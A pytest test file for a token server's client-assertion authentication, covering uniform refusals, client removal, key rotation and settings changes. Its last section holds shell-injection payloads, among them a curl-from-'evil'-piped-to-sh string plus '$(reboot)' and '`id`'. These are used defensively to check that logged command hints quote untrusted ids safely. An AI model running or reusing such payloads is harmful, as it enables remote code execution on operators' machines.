"""AS-CA-19 to 24, A17, A18: the one appearance of every refusal, and clients as they change."""

import shlex
from typing import Any

import pytest

from groat.protocol.client_settings import SettingsChange
from groat.protocol.errors import ConfigError
from groat.protocol.jwk import (
    generate_private_key,
    private_key,
)
from groat.server import operations
from groat.server.store import StoreConflict
from tests.server.assertions import RSA_PAIR, add_key, refused, server_key
from tests.server.builders import NOW, TE, Party, base, base_fields
from tests.server.lab import Lab
from tests.server.wire import FORM, check_ec, check_ok, check_refused, encoded

# AS-CA-19, AS-CA-21, AS-CA-22, A18


@pytest.mark.rule("AS-CA-19", "A18", "AS-CA-05")
def test_every_cause_looks_the_same(lab: Lab, other: Party) -> None:
    """All causes give the same status, headers and bytes; the log tells each apart."""
    disabled = lab.add_client("disabled")
    lab.operate(lambda op: operations.enable_client(op, "disabled", enabled=False))
    removed = lab.add_client("removed")
    lab.operate(lambda op: operations.remove_client(op, "removed"))
    used = lab.party.assertion()
    check_ok(lab.ask(used))
    good = base_fields(lab.party.assertion())
    causes = {
        "client_unknown": base(Party("nobody").assertion()),
        "client_unknown ": base(removed.assertion()),
        "client_disabled": base(disabled.assertion()),
        "assertion_key": base(lab.party.headed(kid="unknown")),
        "assertion_signature": base(lab.party.assertion()[:-6] + "AAAAAA"),
        "assertion_audience": base(lab.party.assertion(aud="x")),
        "assertion_issuer": base(lab.party.assertion(iss="x")),
        "assertion_subject": base(lab.party.assertion(sub=5)),
        "assertion_expired": base(lab.party.assertion(exp=NOW)),
        "assertion_not_yet": base(lab.party.assertion(nbf=NOW + 61)),
        "assertion_lifetime": base(lab.party.assertion(exp=NOW + 999)),
        "assertion_claims": base(lab.party.assertion(jti=5)),
        "assertion_replayed": base(used),
        "assertion_malformed": base("a.b.c"),
        "assertion_algorithm": base(lab.party.headed(alg="none")),
        "assertion_type": base(lab.party.headed(typ="at+jwt")),
        "assertion_method": encoded([*{**good, "client_assertion_type": "x"}.items()]),
        "auth_method": encoded(
            [("grant_type", "client_credentials"), ("client_secret", "s"), ("client_id", "billing")]
        ),
    }
    answers = {reason: lab.post(body) for reason, body in causes.items()}
    assert {reason: lab.reason(answer) for reason, answer in answers.items()} == {r: r.strip() for r in causes}
    assert len({answer.comparable() for answer in answers.values()}) == 1
    for answer in answers.values():
        check_ec(answer)


@pytest.mark.rule("AS-CA-19")
def test_a_disabled_client_is_only_told_apart_by_who_holds_its_key(lab: Lab) -> None:
    """A bad signature in the name of a disabled client is logged as that: state is judged after proof."""
    disabled = lab.add_client("disabled-2")
    lab.operate(lambda op: operations.enable_client(op, "disabled-2", enabled=False))
    refused(lab, disabled.assertion()[:-6] + "AAAAAA", "assertion_signature")
    refused(lab, disabled.assertion(), "client_disabled")


@pytest.mark.rule("AS-CA-05", "AS-CA-21")
def test_removed_clients_stay_removed(lab: Lab) -> None:
    """The key of a removed client opens nothing, and its id is never given away again."""
    party = lab.add_client("gone")
    check_ok(lab.ask(party.assertion()))
    lab.operate(lambda op: operations.remove_client(op, "gone"))
    refused(lab, party.assertion(), "client_unknown")
    with pytest.raises(StoreConflict):
        lab.add_client("gone")
    check_ok(lab.ask(lab.add_client("heir", party.key).assertion()))
    refused(lab, party.assertion(), "client_unknown")


@pytest.mark.rule("AS-CA-21")
@pytest.mark.parametrize(
    "client_id", ["", "\n", "a\nb", "a b", "a\0b", "\u00e9", 'a"b', "a\\b", "x" * 129, "a\x7f", "a\tb"]
)
def test_client_ids_are_printable_ascii(lab: Lab, client_id: str) -> None:
    """Ids that could confuse a log, a shell or a form cannot be registered."""
    with pytest.raises(ConfigError):
        lab.add_client(client_id)


@pytest.mark.rule("AS-CA-21")
def test_client_ids_are_unique(lab: Lab) -> None:
    """The same id cannot be registered twice; another case is another client."""
    with pytest.raises(StoreConflict):
        lab.add_client("billing")
    check_ok(lab.ask(lab.add_client("BILLING").assertion()))


@pytest.mark.rule("AS-CA-22", "DEMO-01")
def test_one_key_has_one_owner(lab: Lab) -> None:
    """A key of another client, or the server's own, cannot be registered, at first or later."""
    for key in (lab.party.key, server_key(lab)):
        with pytest.raises(StoreConflict):
            lab.add_client("copycat", key)
        with pytest.raises(StoreConflict):
            add_key(lab, "billing", key)
    check_ec(lab.ask(Party("copycat", lab.party.key).assertion()))


@pytest.mark.rule("AS-CA-22", "KEY-13")
def test_one_modulus_has_one_algorithm(lab: Lab, rsa: Party) -> None:
    """The same RSA key under another algorithm and kid is the same key."""
    again = private_key(RSA_PAIR, "PS256", "another-kid")
    for client_id in ("rsa", "billing"):
        with pytest.raises(StoreConflict):
            add_key(lab, client_id, again)


@pytest.mark.rule("KEY-23", "AS-CA-24")
def test_a_client_changes_over_without_a_gap(lab: Lab) -> None:
    """Two registered keys both work; the removed one stops on the next request."""
    old = lab.add_client("rotating")
    new = Party("rotating", generate_private_key("ES256"))
    refused(lab, new.assertion(), "assertion_key")
    lab.operate(lambda op: operations.add_client_keys(op, "rotating", (new.key.public,)))
    for party in (old, new):
        check_ok(lab.ask(party.assertion()))
    lab.operate(lambda op: operations.remove_client_key(op, "rotating", old.key.kid))
    refused(lab, old.assertion(), "assertion_key")
    check_ok(lab.ask(new.assertion()))


@pytest.mark.rule("AS-CA-24", "A17")
def test_every_change_acts_on_the_next_request(lab: Lab) -> None:
    """Disable, enable, scope cut, grant cut and a stricter setting act at once, in both directions."""
    party = lab.add_client(
        "changing", allow={"orders": ["orders:read", "orders:write"]}, default_scopes=("orders:read",)
    )

    def update(**settings: Any) -> None:
        lab.operate(lambda op: operations.update_client(op, "changing", change=SettingsChange(**settings)))

    for _ in range(2):
        check_ok(lab.ask(party.assertion(), scope="orders:write"))
        lab.operate(lambda op: operations.enable_client(op, "changing", enabled=False))
        refused(lab, party.assertion(), "client_disabled")
        lab.operate(lambda op: operations.enable_client(op, "changing", enabled=True))
    lab.operate(lambda op: operations.update_client(op, "changing", {"orders": ["orders:read"]}))
    check_refused(lab.ask(party.assertion(), scope="orders:write"), "invalid_scope")
    update(strict_typ=True)
    refused(lab, party.headed(typ="JWT"), "assertion_type")
    update(signing_alg="PS256")
    refused(lab, party.assertion(), "assertion_algorithm")
    update(signing_alg=None, grant_types=())
    check_refused(lab.ask(party.assertion()), "unauthorized_client")


@pytest.mark.rule("AS-CA-24", "A17")
def test_a_scope_that_an_api_loses_is_gone(lab: Lab) -> None:
    """A scope taken from the API is gone from every client's next token."""
    lab.operate(lambda op: operations.add_api(op, "shrinking", "https://shrinking.example", ["s1", "s2"]))
    party = lab.add_client("shrunk", allow={"shrinking": ["s1", "s2"]})
    check_ok(lab.ask(party.assertion(), scope="s1 s2"))
    lab.operate(lambda op: operations.update_api(op, "shrinking", operations.ApiWish(remove_scopes=("s2",))))
    check_refused(lab.ask(party.assertion(), scope="s1 s2"), "invalid_scope")
    check_ok(lab.ask(party.assertion(), scope="s1"))


@pytest.mark.rule("AS-CA-20")
@pytest.mark.parametrize("alg", ["ES256", "ES384", "ES512", "Ed25519", "RS256", "PS256"])
def test_unknown_clients_are_checked_against_a_decoy(lab: Lab, alg: str) -> None:
    """An unknown client's signature is really computed, whatever its algorithm, and refused like any other."""
    key = private_key(RSA_PAIR, alg) if alg in ("RS256", "PS256") else generate_private_key(alg)
    refused(lab, Party("nobody", key).assertion(), "client_unknown")
    check_ec(lab.post(base(Party("nobody", key).assertion()), FORM))


# ST-13: what the log offers for copying

EVIL = ";curl${IFS}evil|sh;#"


def offered(hint: str) -> list[str]:
    """The words that a shell would read from `groat` on; operators of the shell come out as words of their own."""
    lexer = shlex.shlex(hint[hint.rindex("groat ") :], posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    return list(lexer)


@pytest.mark.rule("ST-13")
@pytest.mark.parametrize("name", [EVIL, "$(reboot)", "a&b", "a'b", "--yes", "`id`"])
def test_a_stranger_types_nothing_into_an_operators_shell(lab: Lab, name: str) -> None:
    """The id of an assertion is anybody's choice; in the command that the log offers it is one word."""
    answer = lab.ask(Party(name).assertion())
    check_ec(answer)
    words = offered(lab.event(answer)["hint"])
    assert (words[:3], words.count(name)) == (["groat", "client", "add"], 1)
    assert name != "--yes" or words[words.index(name) - 1] == "--"


@pytest.mark.rule("ST-13")
def test_an_odd_id_that_is_registered_stays_one_word(lab: Lab) -> None:
    """Wrong key, another audience, too long a life, no such scope, disabled: each hint can be copied."""
    party = lab.add_client(EVIL)
    asked = [
        lab.ask(Party(EVIL).assertion()),
        lab.ask(party.assertion(aud=TE)),
        lab.ask(party.assertion(exp=NOW + 3000)),
        lab.ask(party.assertion(), scope="orders:none"),
    ]
    lab.operate(lambda op: operations.enable_client(op, EVIL, enabled=False))
    asked.append(lab.ask(party.assertion()))
    for answer in asked:
        assert offered(lab.event(answer)["hint"]).count(EVIL) == 1
